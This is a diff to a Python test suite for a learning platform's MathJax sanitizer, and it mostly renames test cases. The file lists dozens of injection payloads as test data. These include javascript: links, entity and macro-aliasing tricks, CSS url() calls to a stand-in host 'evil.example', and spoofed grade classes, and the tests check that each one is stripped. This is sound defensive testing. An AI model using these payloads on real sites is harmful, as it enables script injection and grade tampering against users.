@@ -1,4 +1,4 @@
-"""MathJax commands in a student's written answer, also tried in a real browser."""
+"""MathJax commands in a student's written answer, also tested in a real browser."""
 
 import html.parser
 import json
@@ -10,44 +10,44 @@ from grader.course.lessons import all_lessons
 from grader.lms.formula_sanitizer import COMMANDS, ZERO_WIDTH_SPACE, sanitize_formulas
 from grader.lms.sanitizer import sanitize_markdown
 from tests import browser
-from tests.attacks.attack import tried
+from tests.attacks.attack import with_attacks
 from tests.prerequisites import MATHJAX
 
-# The host that each command would make a page load from or link to.
+# The host that a page would contact or link to because of a command.
 EVIL = "evil.example"
 ORDERS = {
     "a link": r"$\href{javascript:alert(1)}{x}$",
-    "a link in a formula of its own": r"$$\href{javascript:alert(1)}{x}$$",
+    "a link in a displayed formula": r"$$\href{javascript:alert(1)}{x}$$",
     "a link in brackets": r"\\[\href{javascript:alert(1)}{x}\\]",
     "a link in an environment": r"\begin{align}\href{javascript:alert(1)}{x}\end{align}",
     "a link in a text": r"$\text{$\href{javascript:alert(1)}{x}$}$",
-    "a link behind a backslash": r"$ \\href{javascript:alert(1)}{x} $",
-    "a link over lines": "$\n\\href{javascript:alert(1)}{x}\n$",
-    "a link whose formula does not end": r"$$ a $ \href{javascript:alert(1)}{x} $",
+    "a link after a backslash": r"$ \\href{javascript:alert(1)}{x} $",
+    "a link across lines": "$\n\\href{javascript:alert(1)}{x}\n$",
+    "a link in a formula without an end": r"$$ a $ \href{javascript:alert(1)}{x} $",
     "an entity for the backslash": r"$ &#92;href{javascript:alert(1)}{x} $",
-    "an entity by its name": r"$ &bsol;href{javascript:alert(1)}{x} $",
-    "an entity in the name": r"$ \le&#116; \h\hre&#102; \h{javascript:alert(1)}{x} $",
-    "an entity with noughts": r"$ &#x0005C;href{javascript:alert(1)}{x} $",
-    "another name": r"$\let\x=\href \x{javascript:alert(1)}{x}$",
+    "a named entity": r"$ &bsol;href{javascript:alert(1)}{x} $",
+    "an entity in the command's name": r"$ \le&#116; \h\hre&#102; \h{javascript:alert(1)}{x} $",
+    "an entity with leading zeros": r"$ &#x0005C;href{javascript:alert(1)}{x} $",
+    "an alias": r"$\let\x=\href \x{javascript:alert(1)}{x}$",
     "a definition": r"$\def\x{\href{javascript:alert(1)}}\x{y}$",
     "a new command": r"$\newcommand{\x}{\href{javascript:alert(1)}{y}}\x$",
     "a new environment": r"$\newenvironment{x}{\href{javascript:alert(1)}{y}}{}\begin{x}\end{x}$",
     "a new operator": r"$\DeclareMathOperator{\x}{\href{javascript:alert(1)}{y}}\x$",
-    "a name that is put together": r"$\csname href\endcsname{javascript:alert(1)}{x}$",
+    "a composed name": r"$\csname href\endcsname{javascript:alert(1)}{x}$",
     "an element": r'$\mmlToken{mi}[href="javascript:alert(1)"]{x}$',
     "a style": rf"$\style{{background:url(http://{EVIL}/style)}}{{x}}$",
     "a class": r"$\class{grade-correct}{x}$",
-    "an identity": r"$\cssId{score}{x}$",
+    "an ID": r"$\cssId{score}{x}$",
     "a box": rf"$\bbox[background:url(http://{EVIL}/box)]{{x}}$",
     "a colour": rf"$\color{{red;background:url(http://{EVIL}/color)}}{{x}}$",
     "a background": rf"$\colorbox{{url(http://{EVIL}/colorbox)}}{{x}}$",
-    "a letter by its number": r"$\unicode[url(x)]{x3c}$",
+    "a character code": r"$\unicode[url(x)]{x3c}$",
     "data": r"$\data{x=y}{z}$",
-    "an environment of somebody's own": r"\begin{html}x\end{html}",
+    "a custom environment": r"\begin{html}x\end{html}",
     "more commands": rf"$\require{{[http]//{EVIL}/require}}$",
     "a reference": r"$x\label{y}$ $\ref{y}$ $\eqref{y}$",
     "a black page": r"$\rule{99em}{99em}$",
-    "far away": r"$\hspace{-99em}x$",
+    "a large distance": r"$\hspace{-99em}x$",
 }
 FINE = {
     "fractions": r"$\frac{a}{b} < \dfrac12$ and $$\sqrt[3]{x}$$",
@@ -58,12 +58,12 @@ FINE = {
     "in brackets": r"\\(\hat{n} \cdot \vec{p}\\) and \\[\lVert x \rVert_2\\]",
     "colours and spaces": r"$\color{red}{x} \quad \textcolor{#ff0000}{y} \hspace{1.5em} z$",
     "prices": r"It costs $5 or $6, and `C:\n`.",
-    "no formula at all": "C:\\Users\\ada and \\def, \\foo and\n```\nprint('\\nTotal')\n```",
+    "text without a formula": "C:\\Users\\ada and \\def, \\foo and\n```\nprint('\\nTotal')\n```",
     "entities": "&lt; &amp; &#8594; &#x1F697;",
 }
 
 
-@tried("text", ORDERS)
+@with_attacks("text", ORDERS)
 def test_unsafe_commands_are_removed(text):
     shown = sanitize_markdown(text)
     known = {*COMMANDS, "begin", "end", "color", "hspace"}
@@ -72,20 +72,20 @@ def test_unsafe_commands_are_removed(text):
     assert sanitize_markdown(shown) == shown
 
 
-@tried("text", {name: text for name, text in ORDERS.items() if "entity" not in name})
+@with_attacks("text", {name: text for name, text in ORDERS.items() if "entity" not in name})
 def test_the_text_of_a_command_is_kept(text):
     shown = sanitize_markdown(text).replace(ZERO_WIDTH_SPACE, "")
     assert shown.replace("`", "").replace(" ", "") == text.replace(" ", "")
 
 
 def test_unsafe_formulas_are_shown_as_code():
-    """If programs disagree where the formula ends, only the command's name is split instead."""
-    differ = ("a link in a text", "a link behind a backslash", "a link whose formula does not end")
+    """If programs disagree on the end of the formula, only the command's name is split."""
+    differ = ("a link in a text", "a link after a backslash", "a link in a formula without an end")
     for name in ORDERS.keys() - differ - {name for name in ORDERS if "entity" in name}:
         assert "`" in sanitize_markdown(ORDERS[name]), name
 
 
-@tried("text", FINE)
+@with_attacks("text", FINE)
 def test_an_honest_formula_is_unchanged(text):
     assert sanitize_formulas(text) == text
 
@@ -127,7 +127,7 @@ class _DangerCollector(html.parser.HTMLParser):
 
 
 def browsed(texts, entry, folder):
-    """Return the dangerous parts of a page, the code that it shows, and the requests it makes."""
+    """Return the dangerous parts of a page, the code that it shows, and its requests."""
     page, requests = browser.seen(browser.page_of(texts, entry), folder, EVIL)
     reader = _DangerCollector()
     reader.feed(page)
@@ -144,10 +144,10 @@ needs_browser = pytest.mark.skipif(
 @pytest.mark.slow
 @needs_browser
 @pytest.mark.parametrize("entry", browser.mathjax_entries())
-def test_a_browser_obeys_none_of_them(entry, tmp_path):
+def test_a_browser_executes_none_of_the_commands(entry, tmp_path):
     ours, _, _ = browsed([*FINE.values()], entry, tmp_path / "ours")
     raw, _, requests = browsed([*ORDERS.values()], entry, tmp_path / "raw")
-    assert requests and len(set(raw) - set(ours)) > 2, "else the test could not fail"
+    assert requests and len(set(raw) - set(ours)) > 2, "otherwise the test could not fail"
     found, code, requests = browsed(
         [sanitize_markdown(text) for text in ORDERS.values()], entry, tmp_path
     )
@@ -158,7 +158,7 @@ def test_a_browser_obeys_none_of_them(entry, tmp_path):
 @pytest.mark.proof
 @needs_browser
 @pytest.mark.parametrize("entry", browser.mathjax_entries())
-def test_no_permitted_command_makes_a_link(entry, tmp_path):
+def test_no_permitted_command_creates_a_link(entry, tmp_path):
     ours, _, _ = browsed([*FINE.values()], entry, tmp_path / "ours")
     link = f"http://{EVIL}/command"
     texts = [
